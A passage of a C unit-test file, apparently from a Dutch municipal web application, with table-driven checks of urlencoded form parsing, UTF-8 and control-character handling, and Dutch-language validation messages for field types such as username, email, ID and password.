/* test_unit.c - table-driven unit tests of the pure modules: form decoding
 * and validation, UTF-8, password and token rules, the route table and
 * matcher, arenas and strbufs. */
#include "auth.h"
#include "csv.h"
#include "figcache.h"
#include "form.h"
#include "handlers.h"
#include "router.h"
#include "util.h"
#include "testutil.h"
#include "text.h"

#include <stdint.h>
#include <stdlib.h>
#include <time.h>

/* A printable rendering of a byte string for check names. */
static const char *show(arena *a, const char *s, size_t n)
{
	strbuf sb = {0};
	for (size_t i = 0; i < n; i++) {
		unsigned char c = (unsigned char)s[i];
		if (c >= 0x20 && c < 0x7f && c != '\\')
			sb_putc(&sb, (char)c);
		else
			sb_printf(&sb, "\\x%02x", c);
	}
	char *out = arena_strdup(a, sb_str(&sb));
	sb_free(&sb);
	return out;
}

/* A string of n copies of unit, allocated from a. */
static char *repeat(arena *a, const char *unit, size_t n)
{
	size_t u = strlen(unit);
	char *out = arena_alloc(a, u * n + 1);
	for (size_t i = 0; i < n; i++)
		memcpy(out + i * u, unit, u);
	return out;
}

/* ---- form_parse ----------------------------------------------------------- */

struct parse_case {
	const char *text;
	size_t len; /* 0: strlen(text) */
	enum form_status status;
	size_t n;
	const char *names[4];
	const char *values[4];
	bool bad_utf8[4];
	const char *bad_name;
};

static void test_form_parse(void)
{
	static const struct parse_case cases[] = {
		{"a=1&b=2", 0, FORM_OK, 2, {"a", "b"}, {"1", "2"}, {0}, NULL},
		{"naam=Jan+de+Vries", 0, FORM_OK, 1, {"naam"}, {"Jan de Vries"}, {0}, NULL},
		{"a=%41%62%2B%25%26%3D", 0, FORM_OK, 1, {"a"}, {"Ab+%&="}, {0}, NULL},
		{"a=caf%C3%A9&b=%e2%82%ac", 0, FORM_OK, 2, {"a", "b"}, {"caf\xc3\xa9", "\xe2\x82\xac"}, {0}, NULL},
		{"a+b=c+d", 0, FORM_OK, 1, {"a b"}, {"c d"}, {0}, NULL},
		{"a=", 0, FORM_OK, 1, {"a"}, {""}, {0}, NULL},
		{"a", 0, FORM_OK, 1, {"a"}, {""}, {0}, NULL},
		{"a&b=2", 0, FORM_OK, 2, {"a", "b"}, {"", "2"}, {0}, NULL},
		{"a=1=2", 0, FORM_OK, 1, {"a"}, {"1=2"}, {0}, NULL},
		{"", 0, FORM_OK, 0, {0}, {0}, {0}, NULL},
		{"a=1&", 0, FORM_OK, 1, {"a"}, {"1"}, {0}, NULL},
		{"&&a=1&&b=2&", 0, FORM_OK, 2, {"a", "b"}, {"1", "2"}, {0}, NULL},
		{"a=%", 0, FORM_MALFORMED, 0, {0}, {0}, {0}, NULL},
		{"a=%4", 0, FORM_MALFORMED, 0, {0}, {0}, {0}, NULL},
		{"a=%zz", 0, FORM_MALFORMED, 0, {0}, {0}, {0}, NULL},
		{"a=%4g", 0, FORM_MALFORMED, 0, {0}, {0}, {0}, NULL},
		{"a=x%", 0, FORM_MALFORMED, 0, {0}, {0}, {0}, NULL},
		{"a%=1", 0, FORM_MALFORMED, 0, {0}, {0}, {0}, NULL},
		{"ok=1&b=%G0", 0, FORM_MALFORMED, 0, {0}, {0}, {0}, NULL},
		{"=1", 0, FORM_MALFORMED, 0, {0}, {0}, {0}, NULL},
		{"%ff=1", 0, FORM_MALFORMED, 0, {0}, {0}, {0}, NULL},
		{"%c3=1", 0, FORM_MALFORMED, 0, {0}, {0}, {0}, NULL},
		{"%00=1", 0, FORM_MALFORMED, 0, {0}, {0}, {0}, NULL},
		{"a=1&a=2", 0, FORM_DUPLICATE, 0, {0}, {0}, {0}, "a"},
		{"x=1&naam=a&y=2&naam=b", 0, FORM_DUPLICATE, 0, {0}, {0}, {0}, "naam"},
		{"a=1&%61=2", 0, FORM_DUPLICATE, 0, {0}, {0}, {0}, "a"},
		{"a&a", 0, FORM_DUPLICATE, 0, {0}, {0}, {0}, "a"},
		{"a=%ff&b=2", 0, FORM_OK, 2, {"a", "b"}, {"", "2"}, {true, false}, NULL},
		{"a=ok%c3", 0, FORM_OK, 1, {"a"}, {""}, {true}, NULL},
		{"a=%c0%80", 0, FORM_OK, 1, {"a"}, {""}, {true}, NULL},
		{"a=%ed%a0%80", 0, FORM_OK, 1, {"a"}, {""}, {true}, NULL},
		{"a=x%00y", 0, FORM_OK, 1, {"a"}, {""}, {true}, NULL},
		{"a=\xff", 0, FORM_OK, 1, {"a"}, {""}, {true}, NULL},
		/* Only len bytes count: the rest is not part of the body. */
		{"a=1&b=2", 3, FORM_OK, 1, {"a"}, {"1"}, {0}, NULL},
		{"a=1\0b=2", 7, FORM_OK, 1, {"a"}, {""}, {true}, NULL},
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		const struct parse_case *c = &cases[i];
		arena *a = arena_new();
		size_t len = c->len ? c->len : strlen(c->text);
		const char *label = show(a, c->text, len);
		struct form *f = NULL;
		const char *bad = "unset";
		enum form_status s = form_parse(a, c->text, len, &f, &bad);
		CHECK_INT(s, c->status, "form_parse [%s] status", label);
		if (s == FORM_OK && c->status == FORM_OK) {
			CHECK_INT(f->n, c->n, "form_parse [%s] pair count", label);
			for (size_t k = 0; k < c->n && k < f->n; k++) {
				CHECK_STR(f->pairs[k].name, c->names[k], "form_parse [%s] name %zu", label, k);
				CHECK_STR(f->pairs[k].value, c->values[k], "form_parse [%s] value %zu", label, k);
				CHECK(f->pairs[k].bad_utf8 == c->bad_utf8[k], "form_parse [%s] bad_utf8 %zu", label, k);
				CHECK_STR(form_get(f, c->names[k]), c->values[k], "form_get [%s] %s", label, c->names[k]);
			}
			CHECK(bad == NULL, "form_parse [%s] bad_name NULL on success", label);
		}
		if (c->status == FORM_DUPLICATE)
			CHECK_STR(bad, c->bad_name, "form_parse [%s] bad_name", label);
		arena_free(a);
	}

	arena *a = arena_new();
	struct form *f = NULL;
	const char *bad = NULL;
	form_parse(a, "a=1", 3, &f, &bad);
	CHECK(form_get(f, "b") == NULL, "form_get absent name gives NULL");
	CHECK(form_get(f, "A") == NULL, "form_get is case-sensitive");
	CHECK(form_get(NULL, "a") == NULL, "form_get on NULL form gives NULL");
	arena_free(a);

	/* The field limit: exactly FORM_MAX_FIELDS distinct names parse, one
	 * more is refused before decoding; a duplicate among many is found
	 * wherever it is. */
	strbuf big = {0};
	for (int i = 0; i < FORM_MAX_FIELDS; i++)
		sb_printf(&big, "%sveld%d=%d", i ? "&" : "", i, i);
	a = arena_new();
	CHECK(form_parse(a, big.buf, big.len, &f, &bad) == FORM_OK && f->n == FORM_MAX_FIELDS &&
	      strcmp(form_get(f, "veld1234"), "1234") == 0, "form_parse: %d fields parse and are found", FORM_MAX_FIELDS);
	sb_puts(&big, "&een=teveel");
	CHECK(form_parse(a, big.buf, big.len, &f, &bad) == FORM_TOO_MANY, "form_parse: one field over the limit is refused");
	arena_free(a);
	sb_free(&big);
	strbuf dup = {0};
	for (int i = 0; i < FORM_MAX_FIELDS - 1; i++)
		sb_printf(&dup, "%sv%d=", i ? "&" : "", i);
	sb_puts(&dup, "&v7=x");
	a = arena_new();
	CHECK(form_parse(a, dup.buf, dup.len, &f, &bad) == FORM_DUPLICATE && bad && strcmp(bad, "v7") == 0,
	      "form_parse: a duplicate after %d fields is found and named", FORM_MAX_FIELDS - 1);
	arena_free(a);
	sb_free(&dup);
}

/* ---- form_validate -------------------------------------------------------- */

static const char *const colours[] = {"rood", "groen", "blauw", NULL};

#define MSG_REQUIRED "Dit veld is verplicht."
#define MSG_BAD_UTF8 "Dit veld bevat tekens die niet kunnen worden gelezen. Typ de tekst opnieuw."
#define MSG_LINE "Dit veld mag geen regeleinden of stuurtekens bevatten."
#define MSG_TEXT "Dit veld bevat stuurtekens die niet zijn toegestaan."
#define MSG_USER "Gebruik alleen kleine letters"
#define MSG_EMAIL "Vul een geldig e-mailadres in"
#define MSG_CHOICE "Kies een van de mogelijkheden."
#define MSG_CHOICES "Kies minstens één mogelijkheid."
#define MSG_ID "Kies een geldige waarde."

struct validate_case {
	enum field_kind kind;
	bool required;
	unsigned min_len, max_len;
	const char *input;  /* urlencoded form; the field is named "f" */
	const char *error;  /* NULL: valid; else a prefix of the message */
	const char *text;   /* expected text, or NULL to skip */
	int64_t id;
	unsigned bits;
	bool checked;
};

static const struct validate_case validate_cases[] = {
	/* absent / required / trimming */
	{FIELD_LINE, false, 0, 0, "", NULL, "", 0, 0, false},
	{FIELD_LINE, true, 0, 0, "", MSG_REQUIRED, "", 0, 0, false},
	{FIELD_LINE, true, 0, 0, "f=", MSG_REQUIRED, "", 0, 0, false},
	{FIELD_LINE, true, 0, 0, "f=+%20%09+", MSG_REQUIRED, "", 0, 0, false},
	{FIELD_LINE, true, 0, 0, "f=+Jan+de+Vries%09+", NULL, "Jan de Vries", 0, 0, false},
	{FIELD_LINE, true, 0, 0, "g=x", MSG_REQUIRED, "", 0, 0, false},
	/* FIELD_LINE: no control characters */
	{FIELD_LINE, false, 0, 0, "f=a%0Ab", MSG_LINE, NULL, 0, 0, false},
	{FIELD_LINE, false, 0, 0, "f=a%0Db", MSG_LINE, NULL, 0, 0, false},
	{FIELD_LINE, false, 0, 0, "f=a%09b", MSG_LINE, NULL, 0, 0, false},
	{FIELD_LINE, false, 0, 0, "f=a%01b", MSG_LINE, NULL, 0, 0, false},
	{FIELD_LINE, false, 0, 0, "f=a%7Fb", MSG_LINE, NULL, 0, 0, false},
	{FIELD_LINE, false, 0, 0, "f=a%1Bb", MSG_LINE, NULL, 0, 0, false},
	{FIELD_LINE, false, 0, 0, "f=%C3%A9%E2%82%AC%F0%9F%98%80", NULL, "\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80", 0, 0, false},
	/* FIELD_TEXT: newlines and tabs allowed, other controls not */
	{FIELD_TEXT, false, 0, 0, "f=regel+1%0D%0Aregel%092", NULL, "regel 1\r\nregel\t2", 0, 0, false},
	{FIELD_TEXT, false, 0, 0, "f=a%0Ab", NULL, "a\nb", 0, 0, false},
	{FIELD_TEXT, false, 0, 0, "f=%0A%0Aa%0A%0A", NULL, "a", 0, 0, false},
	{FIELD_TEXT, false, 0, 0, "f=a%01b", MSG_TEXT, NULL, 0, 0, false},
	{FIELD_TEXT, false, 0, 0, "f=a%7Fb", MSG_TEXT, NULL, 0, 0, false},
	{FIELD_TEXT, false, 0, 0, "f=a%0Bb", MSG_TEXT, NULL, 0, 0, false},
	/* FIELD_USERNAME */
	{FIELD_USERNAME, true, 3, 64, "f=jan.de-vries_2", NULL, "jan.de-vries_2", 0, 0, false},
	{FIELD_USERNAME, true, 3, 64, "f=Jan", MSG_USER, NULL, 0, 0, false},
	{FIELD_USERNAME, true, 3, 64, "f=jan+de", MSG_USER, NULL, 0, 0, false},
	{FIELD_USERNAME, true, 3, 64, "f=j%C3%A4n", MSG_USER, NULL, 0, 0, false},
	{FIELD_USERNAME, true, 3, 64, "f=jan%40x", MSG_USER, NULL, 0, 0, false},
	{FIELD_USERNAME, true, 3, 64, "f=jan%2Fx", MSG_USER, NULL, 0, 0, false},
	{FIELD_USERNAME, true, 3, 64, "f=jo", "Vul minstens 3 tekens in.", NULL, 0, 0, false},
	/* FIELD_EMAIL */
	{FIELD_EMAIL, true, 0, 0, "f=jan%40gemeente.nl", NULL, "jan@gemeente.nl", 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=j.de.vries%40mail.gemeente.nl", NULL, "j.de.vries@mail.gemeente.nl", 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=+jan%40gemeente.nl+", NULL, "jan@gemeente.nl", 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=jangemeente.nl", MSG_EMAIL, NULL, 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=%40gemeente.nl", MSG_EMAIL, NULL, 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=jan%40gemeente", MSG_EMAIL, NULL, 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=jan%40%40gemeente.nl", MSG_EMAIL, NULL, 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=a%40b%40gemeente.nl", MSG_EMAIL, NULL, 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=jan+de%40gemeente.nl", MSG_EMAIL, NULL, 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=jan%40.nl", MSG_EMAIL, NULL, 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=jan%40gemeente.nl.", MSG_EMAIL, NULL, 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=%3Cjan%40gemeente.nl%3E", MSG_EMAIL, NULL, 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=jan%40gemeente.nl%0A", NULL, "jan@gemeente.nl", 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=jan%40gem%0Aeente.nl", MSG_EMAIL, NULL, 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=jan%40gem%09eente.nl", MSG_EMAIL, NULL, 0, 0, false},
	{FIELD_EMAIL, true, 0, 0, "f=jan%01%40gemeente.nl", MSG_EMAIL, NULL, 0, 0, false},
	{FIELD_EMAIL, false, 0, 0, "", NULL, "", 0, 0, false},
	/* FIELD_CHOICE: bits holds the index */
	{FIELD_CHOICE, true, 0, 0, "f=rood", NULL, "rood", 0, 0, false},
	{FIELD_CHOICE, true, 0, 0, "f=blauw", NULL, "blauw", 0, 2, false},
	{FIELD_CHOICE, true, 0, 0, "f=geel", MSG_CHOICE, NULL, 0, 0, false},
	{FIELD_CHOICE, true, 0, 0, "f=Rood", MSG_CHOICE, NULL, 0, 0, false},
	{FIELD_CHOICE, true, 0, 0, "", MSG_REQUIRED, "", 0, 0, false},
	{FIELD_CHOICE, false, 0, 0, "", NULL, "", 0, 0, false},
	/* FIELD_CHOICES: name_<choice>=1 */
	{FIELD_CHOICES, false, 0, 0, "f_rood=1&f_blauw=1", NULL, "", 0, 5, false},
	{FIELD_CHOICES, false, 0, 0, "f_groen=1", NULL, "", 0, 2, false},
	{FIELD_CHOICES, false, 0, 0, "f_groen=", NULL, "", 0, 2, false},
	{FIELD_CHOICES, false, 0, 0, "f_rood=1&f_groen=1&f_blauw=1", NULL, "", 0, 7, false},
	{FIELD_CHOICES, false, 0, 0, "f_geel=1&f=rood", NULL, "", 0, 0, false},
	{FIELD_CHOICES, false, 0, 0, "", NULL, "", 0, 0, false},
	{FIELD_CHOICES, true, 0, 0, "", MSG_CHOICES, "", 0, 0, false},
	{FIELD_CHOICES, true, 0, 0, "f_geel=1", MSG_CHOICES, "", 0, 0, false},
	{FIELD_CHOICES, true, 0, 0, "f_blauw=1", NULL, "", 0, 4, false},
	/* FIELD_ID */
	{FIELD_ID, true, 0, 0, "f=12", NULL, "12", 12, 0, false},
	{FIELD_ID, true, 0, 0, "f=1", NULL, "1", 1, 0, false},
	{FIELD_ID, true, 0, 0, "f=+12+", NULL, "12", 12, 0, false},
	/* 1-18 digits, as the router's {id}. */
	{FIELD_ID, true, 0, 0, "f=999999999999999999", NULL, NULL, 999999999999999999LL, 0, false},
	{FIELD_ID, true, 0, 0, "f=1000000000000000000", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=9223372036854775807", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=0", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=-5", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=-0", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=%2B5", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=9223372036854775808", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=99999999999999999999999", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=12a", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=1.5", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=0x10", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=1+2", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=%0B12", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=%0C%2B12", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "f=abc", MSG_ID, NULL, 0, 0, false},
	{FIELD_ID, true, 0, 0, "", MSG_REQUIRED, "", 0, 0, false},
	{FIELD_ID, false, 0, 0, "", NULL, "", 0, 0, false},
	/* FIELD_CHECKBOX: present = checked, whatever the value */
	{FIELD_CHECKBOX, false, 0, 0, "f=on", NULL, "", 0, 0, true},
	{FIELD_CHECKBOX, false, 0, 0, "f=", NULL, "", 0, 0, true},
	{FIELD_CHECKBOX, false, 0, 0, "f", NULL, "", 0, 0, true},
	{FIELD_CHECKBOX, false, 0, 0, "", NULL, "", 0, 0, false},
	{FIELD_CHECKBOX, false, 0, 0, "ff=on", NULL, "", 0, 0, false},
	/* FIELD_PASSWORD: not trimmed, never required-by-whitespace */
	{FIELD_PASSWORD, true, 0, 0, "f=+geheim+", NULL, " geheim ", 0, 0, false},
	{FIELD_PASSWORD, true, 0, 0, "f=a%0Ab", MSG_LINE, NULL, 0, 0, false},
	/* bad UTF-8: Dutch message, nothing echoed, whatever the kind */
	{FIELD_LINE, false, 0, 0, "f=abc%FF", MSG_BAD_UTF8, "", 0, 0, false},
	{FIELD_TEXT, true, 0, 0, "f=%C3%28", MSG_BAD_UTF8, "", 0, 0, false},
	{FIELD_EMAIL, false, 0, 0, "f=%C0%80%40x.nl", MSG_BAD_UTF8, "", 0, 0, false},
	{FIELD_ID, false, 0, 0, "f=1%FF", MSG_BAD_UTF8, "", 0, 0, false},
	{FIELD_PASSWORD, false, 0, 0, "f=geheim%ED%A0%80", MSG_BAD_UTF8, "", 0, 0, false},
	{FIELD_LINE, false, 0, 0, "f=x%00y", MSG_BAD_UTF8, "", 0, 0, false},
};

/* Lengths in characters, not bytes: built at run time. */
static void test_lengths(void)
{
	static const struct field_rule rule = {"f", "Veld", FIELD_LINE, true, 3, 12, NULL, 0, 0, 0};
	static const struct {
		const char *unit;
		size_t count;
		const char *error;
	} cases[] = {
		{"\xc3\xa9", 12, NULL},                         /* 24 bytes, 12 chars */
		{"\xc3\xa9", 13, "Vul hoogstens 12 tekens in."},
		{"\xe2\x82\xac", 12, NULL},                     /* 36 bytes */
		{"\xf0\x9f\x98\x80", 12, NULL},                 /* 48 bytes */
		{"\xf0\x9f\x98\x80", 13, "Vul hoogstens 12 tekens in."},
		{"a", 12, NULL},
		{"a", 13, "Vul hoogstens 12 tekens in."},
		{"a", 3, NULL},
		{"\xc3\xa9", 2, "Vul minstens 3 tekens in."},   /* 4 bytes, 2 chars */
		{"a", 2, "Vul minstens 3 tekens in."},
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		arena *a = arena_new();
		const char *value = repeat(a, cases[i].unit, cases[i].count);
		struct form_pair pair = {"f", value, false};
		struct form f = {&pair, 1};
		struct field_value v;
		int errors = form_validate(a, &f, &rule, 1, &v);
		const char *label = show(a, cases[i].unit, strlen(cases[i].unit));
		CHECK_INT(errors, cases[i].error ? 1 : 0, "length: %zu x [%s] error count", cases[i].count, label);
		if (cases[i].error)
			CHECK_STR(v.error, cases[i].error, "length: %zu x [%s] message", cases[i].count, label);
		else
			CHECK_STR(v.text, value, "length: %zu x [%s] kept", cases[i].count, label);
		/* Surrounding spaces are trimmed before counting. */
		const char *padded = arena_printf(a, "  %s  ", value);
		pair.value = padded;
		form_validate(a, &f, &rule, 1, &v);
		CHECK(cases[i].error ? v.error != NULL : v.error == NULL,
		      "length: %zu x [%s] padded with spaces counts trimmed", cases[i].count, label);
		arena_free(a);
	}
}

static const char *kind_name(enum field_kind k)
{
	static const char *const names[] = {"LINE", "TEXT", "USERNAME", "PASSWORD", "EMAIL",
	                                    "CHOICE", "CHOICES", "ID", "CHECKBOX"};
	return (size_t)k < ARRAY_LEN(names) ? names[k] : "?";
}

static void check_value(arena *a, const char *label, const struct validate_case *c,
                        const struct field_value *v, int errors)
{
	CHECK_INT(errors, c->error ? 1 : 0, "%s: error count", label);
	if (c->error) {
		bool prefix = v->error && strncmp(v->error, c->error, strlen(c->error)) == 0;
		CHECK(prefix, "%s: message starts with [%s] (got [%s])", label, c->error,
		      v->error ? v->error : "(null)");
	} else {
		CHECK(v->error == NULL, "%s: no error (got [%s])", label, v->error ? v->error : "");
	}
	CHECK(v->text != NULL, "%s: text never NULL", label);
	if (c->text && v->text)
		CHECK_STR(v->text, c->text, "%s: text", label);
	if (c->kind == FIELD_ID)
		CHECK_INT(v->id, c->id, "%s: id", label);
	if (c->kind == FIELD_CHOICE || c->kind == FIELD_CHOICES)
		CHECK_INT(v->bits, c->bits, "%s: bits", label);
	CHECK(v->checked == c->checked, "%s: checked", label);
	(void)a;
}

static void test_form_validate(void)
{
	for (size_t i = 0; i < ARRAY_LEN(validate_cases); i++) {
		const struct validate_case *c = &validate_cases[i];
		arena *a = arena_new();
		struct field_rule rule = {"f", "Veld", c->kind, c->required, c->min_len, c->max_len,
		                          (c->kind == FIELD_CHOICE || c->kind == FIELD_CHOICES) ? colours : NULL, 0, 0, 0};
		struct form *f = NULL;
		const char *bad = NULL;
		const char *label = arena_printf(a, "validate %s%s [%s]", kind_name(c->kind),
		                                 c->required ? " required" : "", c->input);
		if (form_parse(a, c->input, strlen(c->input), &f, &bad) != FORM_OK) {
			T_FAIL(label, "test input does not parse");
			arena_free(a);
			continue;
		}
		struct field_value v;
		memset(&v, 0xA5, sizeof v); /* must be fully reset by form_validate */
		int errors = form_validate(a, f, &rule, 1, &v);
		check_value(a, label, c, &v, errors);
		arena_free(a);
	}

	/* Several rules at once: values[i] belongs to rules[i], the count sums. */
	arena *a = arena_new();
	static const struct field_rule rules[] = {
		{"naam", "Naam", FIELD_LINE, true, 1, 200, NULL, 0, 0, 0},
		{"gebruikersnaam", "Gebruikersnaam", FIELD_USERNAME, true, 3, 64, NULL, 0, 0, 0},
		{"email", "E-mailadres", FIELD_EMAIL, false, 0, 254, NULL, 0, 0, 0},
		{"rollen", "Rollen", FIELD_CHOICES, true, 0, 0, colours, 0, 0, 0},
		{"actief", "Actief", FIELD_CHECKBOX, false, 0, 0, NULL, 0, 0, 0},
		{"team", "Team", FIELD_ID, false, 0, 0, NULL, 0, 0, 0},
	};
	struct field_value vals[ARRAY_LEN(rules)];
	struct form *f = NULL;
	const char *bad = NULL;
	const char *in = "naam=Els&gebruikersnaam=ELS&email=fout&rollen_groen=1&team=3";
	form_parse(a, in, strlen(in), &f, &bad);
	int errors = form_validate(a, f, rules, ARRAY_LEN(rules), vals);
	CHECK_INT(errors, 2, "validate several fields: two errors");
	CHECK(vals[0].error == NULL && strcmp(vals[0].text, "Els") == 0, "validate several: naam ok");
	CHECK(vals[1].error != NULL, "validate several: gebruikersnaam in error");
	CHECK_STR(vals[1].text, "ELS", "validate several: wrong input kept for the form");
	CHECK(vals[2].error != NULL, "validate several: email in error");
	CHECK_INT(vals[3].bits, 2, "validate several: rollen bits");
	CHECK(!vals[4].checked, "validate several: actief unchecked");
	CHECK_INT(vals[5].id, 3, "validate several: team id");

	errors = form_validate(a, NULL, rules, ARRAY_LEN(rules), vals);
	CHECK_INT(errors, 3, "validate NULL form: the three required fields in error");
	CHECK_STR(vals[0].error, MSG_REQUIRED, "validate NULL form: required message");

	/* form_errors_json and form_to_page carry the messages; passwords are
	 * never echoed. */
	form_validate(a, f, rules, ARRAY_LEN(rules), vals);
	json_t *ej = form_errors_json(rules, ARRAY_LEN(rules), vals);
	CHECK_INT(json_object_size(ej), 2, "form_errors_json: one member per error");
	CHECK(json_string_value(json_object_get(ej, "email")) != NULL, "form_errors_json: email");
	json_decref(ej);
	static const struct field_rule pw_rule[] = {{"wachtwoord", "Wachtwoord", FIELD_PASSWORD, true, 12, 128, NULL, 0, 0, 0}};
	struct field_value pwv;
	struct form *pf = NULL;
	form_parse(a, "wachtwoord=kort", 15, &pf, &bad);
	form_validate(a, pf, pw_rule, 1, &pwv);
	json_t *page = json_object();
	form_to_page(page, pw_rule, 1, &pwv);
	json_t *fld = json_object_get(json_object_get(page, "field"), "wachtwoord");
	CHECK(fld && json_object_get(fld, "value") == NULL, "form_to_page: password value not echoed");
	CHECK(json_is_true(json_object_get(fld, "invalid")), "form_to_page: password marked invalid");
	CHECK(json_is_true(json_object_get(page, "has_errors")), "form_to_page: has_errors");
	/* The summary item names the field by its label, the message goes on
	 * in lower case after it. */
	json_t *item = json_array_get(json_object_get(page, "errors"), 0);
	CHECK_STR(json_string_value(json_object_get(item, "field")), "wachtwoord", "form_to_page: summary links the field");
	CHECK_STR(json_string_value(json_object_get(item, "label")), "Wachtwoord", "form_to_page: summary names the field");
	CHECK(json_string_value(json_object_get(item, "message")) &&
	      strncmp(json_string_value(json_object_get(item, "message")), "vul ", 4) == 0,
	      "form_to_page: summary message goes on in lower case (%s)", json_string_value(json_object_get(item, "message")));
	json_decref(page);
	/* form_add_error: an abbreviation keeps its capitals; an item always
	 * has a name for the field, even when a caller forgot the label. */
	page = json_object();
	CHECK_INT(form_add_error(page, "bsn", "BSN", "BSN bestaat uit 9 cijfers."), 0, "form_add_error: added");
	CHECK_INT(form_add_error(page, "x", NULL, "Dit veld is verplicht."), 0, "form_add_error: added without label");
	json_t *errs = json_object_get(page, "errors");
	CHECK_STR(json_string_value(json_object_get(json_array_get(errs, 0), "message")), "BSN bestaat uit 9 cijfers.",
	          "form_add_error: abbreviation kept");
	CHECK_STR(json_string_value(json_object_get(json_array_get(errs, 1), "label")), "x",
	          "form_add_error: the name stands in for a missing label");
	CHECK_STR(json_string_value(json_object_get(json_array_get(errs, 1), "message")), "dit veld is verplicht.",
	          "form_add_error: first letter lowered");
	CHECK(json_is_true(json_object_get(page, "has_errors")), "form_add_error: has_errors");
	CHECK_INT(form_add_error(NULL, "x", "X", "Y"), -1, "form_add_error: refuses a non-object");
	/* A count with its noun in the right number. */
	CHECK_STR(text_count(a, 1, "huishouden", "huishoudens"), "1 huishouden", "text_count: one");
	CHECK_STR(text_count(a, 0, "dag", "dagen"), "0 dagen", "text_count: none is plural");
	CHECK_STR(text_count(a, 12, "dag", "dagen"), "12 dagen", "text_count: many");
	CHECK_STR(text_keep_numbers(a, "team 1; 2025-12 t/m 2026-11-30"), "team 1; 2025\xe2\x80\x91" "12 t/m 2026\xe2\x80\x91" "11\xe2\x80\x91" "30",
	          "text_keep_numbers: hyphens between digits do not break");
	CHECK_STR(text_keep_numbers(a, "De Vries-Bos - 12 -3 a-1"), "De Vries-Bos - 12 -3 a-1",
	          "text_keep_numbers: other hyphens stay");
	json_decref(page);
	arena_free(a);
}

/* ---- form_validate_json --------------------------------------------------- */

struct json_case {
	enum field_kind kind;
	bool required;
	const char *json;   /* the object; the field is "f" */
	const char *error;  /* prefix, or NULL */
	const char *text;
	int64_t id;
	unsigned bits;
	bool checked;
};

static void test_form_validate_json(void)
{
	static const struct json_case cases[] = {
		{FIELD_LINE, true, "{\"f\": \"  Jan  \"}", NULL, "Jan", 0, 0, false},
		{FIELD_LINE, true, "{}", MSG_REQUIRED, "", 0, 0, false},
		{FIELD_LINE, true, "{\"f\": null}", MSG_REQUIRED, "", 0, 0, false},
		{FIELD_LINE, false, "{\"f\": null}", NULL, "", 0, 0, false},
		{FIELD_LINE, true, "{\"f\": 12}", "Verwacht tekst.", NULL, 0, 0, false},
		{FIELD_LINE, true, "{\"f\": true}", "Verwacht tekst.", NULL, 0, 0, false},
		{FIELD_LINE, true, "{\"f\": [\"a\"]}", "Verwacht tekst.", NULL, 0, 0, false},
		{FIELD_LINE, true, "{\"f\": {\"a\": 1}}", "Verwacht tekst.", NULL, 0, 0, false},
		{FIELD_LINE, true, "{\"f\": \"a\\nb\"}", MSG_LINE, NULL, 0, 0, false},
		{FIELD_TEXT, true, "{\"f\": \"a\\nb\"}", NULL, "a\nb", 0, 0, false},
		{FIELD_TEXT, true, "{\"f\": \"a\\u0001b\"}", MSG_TEXT, NULL, 0, 0, false},
		{FIELD_USERNAME, true, "{\"f\": \"Jan\"}", MSG_USER, NULL, 0, 0, false},
		{FIELD_EMAIL, true, "{\"f\": \"jan@gemeente.nl\"}", NULL, "jan@gemeente.nl", 0, 0, false},
		{FIELD_EMAIL, true, "{\"f\": \"jan\"}", MSG_EMAIL, NULL, 0, 0, false},
		{FIELD_CHOICE, true, "{\"f\": \"groen\"}", NULL, "groen", 0, 1, false},
		{FIELD_CHOICE, true, "{\"f\": \"geel\"}", MSG_CHOICE, NULL, 0, 0, false},
		{FIELD_CHOICE, true, "{\"f\": 1}", "Verwacht tekst.", NULL, 0, 0, false},
		{FIELD_CHOICES, false, "{\"f\": [\"rood\", \"blauw\"]}", NULL, "", 0, 5, false},
		{FIELD_CHOICES, false, "{\"f\": []}", NULL, "", 0, 0, false},
		{FIELD_CHOICES, true, "{\"f\": []}", MSG_CHOICES, "", 0, 0, false},
		{FIELD_CHOICES, true, "{}", MSG_CHOICES, "", 0, 0, false},
		{FIELD_CHOICES, false, "{\"f\": \"rood\"}", "Verwacht een lijst.", "", 0, 0, false},
		{FIELD_CHOICES, false, "{\"f\": [\"rood\", \"geel\"]}", "Onbekende waarde in de lijst.", "", 0, 1, false},
		{FIELD_CHOICES, false, "{\"f\": [1]}", "Onbekende waarde in de lijst.", "", 0, 0, false},
		{FIELD_ID, true, "{\"f\": 42}", NULL, "42", 42, 0, false},
		{FIELD_ID, true, "{\"f\": 999999999999999999}", NULL, NULL, 999999999999999999LL, 0, false},
		{FIELD_ID, true, "{\"f\": 9223372036854775807}", MSG_ID, NULL, 0, 0, false},
